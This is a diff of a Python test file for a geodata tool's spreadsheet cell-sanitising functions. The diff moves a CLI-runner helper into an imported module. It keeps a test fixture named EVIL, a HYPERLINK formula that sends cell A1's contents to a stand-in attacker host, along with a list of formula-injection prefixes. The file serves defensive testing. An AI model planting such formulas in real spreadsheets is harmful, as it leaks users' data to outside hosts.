@@ -6,9 +6,6 @@ from __future__ import annotations
 
 import csv
 import io
-import os
-import shutil
-import subprocess
 import sys
 from pathlib import Path
 
@@ -17,10 +14,10 @@ import openpyxl
 import pandas as pd
 import pytest
 import shapely
+from zkqcli import run
 
 from zkq_geo.cells import is_formula_like, neutralise, neutralise_frame, set_cell
 
-ZKQ = shutil.which("zkq-geo", path=str(Path(sys.executable).parent))
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 PREFIXES = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
 
@@ -54,12 +51,6 @@ def test_set_cell_writes_formula_like_text_as_text():
 @pytest.fixture
 def ws(tmp_path) -> Path:
     return tmp_path / "ws"
-
-
-def run(ws: Path, *args):
-    assert ZKQ, "zkq-geo console script not installed in the venv (pip install -e .)"
-    env = {**os.environ, "ZKQ_WORKSPACE": str(ws)}
-    return subprocess.run([ZKQ, *map(str, args)], capture_output=True, text=True, timeout=180, env=env)
 
 
 @pytest.fixture
